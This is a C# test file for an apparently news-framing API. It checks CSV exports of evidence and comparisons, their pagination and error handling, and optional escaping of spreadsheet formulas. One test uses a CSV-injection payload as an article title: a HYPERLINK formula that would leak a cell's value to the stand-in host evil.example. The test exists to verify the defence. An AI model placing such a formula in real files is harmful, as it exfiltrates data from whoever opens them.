using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using CsvHelper;
using FramingApi.Tests.Infrastructure;

namespace FramingApi.Tests;

/// <summary>
/// The evidence behind a comparison's number as CSV (format=csv or Accept: text/csv, as the other CSVs), one row per
/// span with the JSON's fields; and formula escaping (escape_formulas=true), off by default, on every CSV that carries
/// article text.
/// </summary>
public sealed class EvidenceCsvTests(SeededApiFactory api) : IClassFixture<SeededApiFactory>
{
    const string Story = "biden-icc-evidence-2023";
    const string Evidence = $"/api/stories/{Story}/comparison/evidence?source=libertarian-institute&topic=cluster_munitions";
    readonly HttpClient _client = api.Client();

    static List<Dictionary<string, string>> Rows(string csv, out string[] headers)
    {
        using var reader = CsvReader.FromText(csv, null);
        headers = reader.Headers.ToArray();
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read()) rows.Add(reader.Headers.ToDictionary(h => h, h => reader.GetString(h)));
        return rows;
    }

    [Fact]
    public async Task The_csv_of_an_evidence_page_is_its_json_row_for_row()
    {
        var json = await (await _client.GetAsync(Evidence)).JsonAsync();
        var response = await _client.GetAsync(Evidence + "&format=csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"evidence-{Story}-libertarian-institute-page-1.csv", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Equal(json["total"]!.GetValue<long>().ToString(CultureInfo.InvariantCulture), response.Headers.GetValues("X-Total-Count").Single());

        var rows = Rows(await response.Content.ReadAsStringAsync(), out var headers);
        var items = json["items"]!.AsArray();
        Assert.True(items.Count > 0);
        // The columns are the JSON item's fields, in its order and with its names.
        Assert.Equal(items[0]!.AsObject().Select(p => p.Key).ToArray(), headers);
        Assert.Equal(items.Count, rows.Count);
        for (var i = 0; i < items.Count; i++)
            foreach (var (key, value) in items[i]!.AsObject())
                Assert.Equal(value is null ? "" : value.ToString(), rows[i][key]);

        // Accept: text/csv chooses CSV too.
        var request = new HttpRequestMessage(HttpMethod.Get, Evidence);
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        Assert.Equal("text/csv", (await _client.SendAsync(request)).Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task A_csv_page_links_to_its_neighbours()
    {
        var total = (await (await _client.GetAsync(Evidence)).JsonAsync())["total"]!.GetValue<int>();
        Assert.True(total >= 3, $"{total} spans");
        var first = await _client.GetAsync(Evidence + "&format=csv&page_size=2");
        var link = first.Headers.GetValues("Link").Single();
        Assert.Contains("rel=\"next\"", link);
        Assert.DoesNotContain("rel=\"prev\"", link);
        var next = link[1..link.IndexOf('>')];
        Assert.StartsWith($"/api/stories/{Story}/comparison/evidence?", next);
        Assert.Contains("page=2", next);
        var second = await _client.GetAsync(next);
        Assert.Equal(HttpStatusCode.OK, second.StatusCode);
        Assert.Equal(Math.Min(2, total - 2), Rows(await second.Content.ReadAsStringAsync(), out _).Count);
        Assert.Contains("rel=\"prev\"", second.Headers.GetValues("Link").Single());
    }

    [Theory]
    [InlineData("&format=xml", "format")]
    [InlineData("&escape_formulas=true", "escape_formulas")]
    [InlineData("&format=json&escape_formulas=false", "escape_formulas")]
    [InlineData("&format=csv&escape_formulas=yes", "escape_formulas")]
    public async Task A_wrong_format_or_escaping_is_a_400_naming_it(string query, string field)
    {
        var problem = await (await _client.GetAsync(Evidence + query)).ProblemAsync(HttpStatusCode.BadRequest);
        Assert.Contains(field, problem.ErrorFields());
    }

    /// <summary>Text that a spreadsheet would run as a formula is exact by default (scripts, offsets) and escaped with
    /// a leading ' on request; numbers — offsets, ids, negative values — never are.</summary>
    [Fact]
    public async Task Formulas_are_escaped_on_request_and_only_text_cells()
    {
        await _client.PostJsonAsync("/api/sources", new { slug = "formula-wire", name = "Formula Wire" });
        const string title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
        var created = await _client.PostJsonAsync("/api/articles", new
        {
            source = "formula-wire", story = Story, title,
            text = "@everyone Russia committed war crimes in Bucha, officials said.",
        });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var url = $"/api/stories/{Story}/comparison/evidence?source=formula-wire&kind=claims&format=csv";

        var exact = Rows(await _client.GetStringAsync(url), out _);
        Assert.NotEmpty(exact);
        Assert.All(exact, r => Assert.Equal(title, r["title"]));
        Assert.All(exact, r => Assert.StartsWith("=HYPERLINK", r["context"]));

        var escaped = Rows(await _client.GetStringAsync(url + "&escape_formulas=true"), out _);
        Assert.Equal(exact.Count, escaped.Count);
        for (var i = 0; i < exact.Count; i++)
        {
            Assert.Equal("'" + title, escaped[i]["title"]);
            Assert.Equal("'" + exact[i]["context"], escaped[i]["context"]);
            foreach (var column in new[] { "article_id", "start", "end", "sentence", "matched", "source", "framing" })
                Assert.Equal(exact[i][column], escaped[i][column]);
        }
    }

    [Fact]
    public async Task A_validation_sample_escapes_on_request_only_with_csv()
    {
        var problem = await (await _client.GetAsync($"/api/validation/sample?story={Story}&unit=sentence&n=5&escape_formulas=true"))
            .ProblemAsync(HttpStatusCode.BadRequest);
        Assert.Equal(["escape_formulas"], problem.ErrorFields());
        var csv = await _client.GetAsync($"/api/validation/sample?story={Story}&unit=sentence&n=5&seed=1&format=csv&escape_formulas=true");
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal(5, Rows(await csv.Content.ReadAsStringAsync(), out _).Count);
        var report = await _client.GetAsync("/api/validation/sets/1/report?escape_formulas=true");
        Assert.Contains("escape_formulas", (await report.ProblemAsync(HttpStatusCode.BadRequest)).ErrorFields());
    }

    /// <summary>The comparisons' CSVs carry no article text, but a user's dictionary can name a category "=…": escaped
    /// on request from the cached file, with an ETag of its own, negative numbers (z-scores) left as they are.</summary>
    [Fact]
    public async Task A_comparison_escapes_a_dictionarys_formula_category_on_request()
    {
        var lexicon = await _client.PostJsonAsync("/api/lexicons", new
        {
            name = "formula-dictionary", kind = "custom",
            categories = new[] { new { key = "=harm", description = "A category key a spreadsheet would run." } },
            entries = new[] { new { term = "war crimes", categories = new[] { "=harm" }, weight = 1 } },
        });
        Assert.Equal(HttpStatusCode.Created, lexicon.StatusCode);
        await Wait.ForJobAsync(_client, (await lexicon.JsonAsync())["job"]!["id"]!.GetValue<long>());
        var url = $"/api/stories/{Story}/comparison?lexicon=formula-dictionary&format=csv";

        var exact = await _client.GetAsync(url);
        var exactRows = Rows(await exact.Content.ReadAsStringAsync(), out _);
        Assert.Contains(exactRows, r => r["group"] == "lexicon_category" && r["key"] == "=harm");
        var escaped = await _client.GetAsync(url + "&escape_formulas=true");
        Assert.Equal(HttpStatusCode.OK, escaped.StatusCode);
        var escapedRows = Rows(await escaped.Content.ReadAsStringAsync(), out _);
        Assert.Equal(exactRows.Count, escapedRows.Count);
        Assert.DoesNotContain(escapedRows, r => r["key"] == "=harm");
        Assert.Contains(escapedRows, r => r["group"] == "lexicon_category" && r["key"] == "'=harm");
        for (var i = 0; i < exactRows.Count; i++) Assert.Equal(exactRows[i]["value"], escapedRows[i]["value"]);
        // Negative numbers are numbers: a differences file (pairs' differences below zero) comes back unchanged.
        var differences = $"/api/stories/{Story}/comparison/differences?metric=hedged_share&target=war_crimes&format=csv";
        var plain = await _client.GetStringAsync(differences);
        Assert.Contains(",-", plain);
        Assert.Equal(plain, await _client.GetStringAsync(differences + "&escape_formulas=true"));

        var tag = escaped.Headers.ETag!.Tag;
        Assert.EndsWith("-escaped\"", tag);
        Assert.NotEqual(exact.Headers.ETag!.Tag, tag);
        var again = new HttpRequestMessage(HttpMethod.Get, url + "&escape_formulas=true");
        again.Headers.TryAddWithoutValidation("If-None-Match", tag);
        Assert.Equal(HttpStatusCode.NotModified, (await _client.SendAsync(again)).StatusCode);
        var problem = await (await _client.GetAsync($"/api/stories/{Story}/comparison?escape_formulas=true")).ProblemAsync(HttpStatusCode.BadRequest);
        Assert.Equal(["escape_formulas"], problem.ErrorFields());
    }

    /// <summary>One rule for every CSV (user20): a category a dictionary named "-1" is a plain number, so it is data and
    /// stays as it is with escape_formulas=true in the evidence CSV (written per request) as in the comparison CSV
    /// (escaped from the cached file), while "=harm" is escaped in both. Before, the evidence CSV wrote '-1.</summary>
    [Fact]
    public async Task A_category_that_is_a_number_is_left_alone_in_every_csv_and_a_formula_escaped_in_every_csv()
    {
        var lexicon = await _client.PostJsonAsync("/api/lexicons", new
        {
            name = "numbered-dictionary", kind = "custom",
            categories = new[] { new { key = "-1", description = "A number as a key." }, new { key = "=harm", description = "A formula as a key." } },
            entries = new[]
            {
                new { term = "war crimes", categories = new[] { "-1" }, weight = 1 },
                new { term = "evidence", categories = new[] { "=harm" }, weight = 1 },
            },
        });
        Assert.Equal(HttpStatusCode.Created, lexicon.StatusCode);
        await Wait.ForJobAsync(_client, (await lexicon.JsonAsync())["job"]!["id"]!.GetValue<long>());

        var comparison = Rows(await _client.GetStringAsync($"/api/stories/{Story}/comparison?lexicon=numbered-dictionary&format=csv&escape_formulas=true"), out _)
            .Where(r => r["group"] == "lexicon_category").Select(r => r["key"]).ToHashSet();
        Assert.Equal(["'=harm", "-1"], comparison.Order(StringComparer.Ordinal));

        var evidence = $"/api/stories/{Story}/comparison/evidence?source=libertarian-institute&lexicon=numbered-dictionary&format=csv&page_size=200";
        var exact = Rows(await _client.GetStringAsync(evidence), out _);
        var escaped = Rows(await _client.GetStringAsync(evidence + "&escape_formulas=true"), out _);
        Assert.Equal(exact.Count, escaped.Count);
        Assert.Contains(exact, r => r["category"] == "-1");
        Assert.Contains(exact, r => r["category"] == "=harm");
        for (var i = 0; i < exact.Count; i++)
            Assert.Equal(exact[i]["category"] == "=harm" ? "'=harm" : exact[i]["category"], escaped[i]["category"]);
    }
}
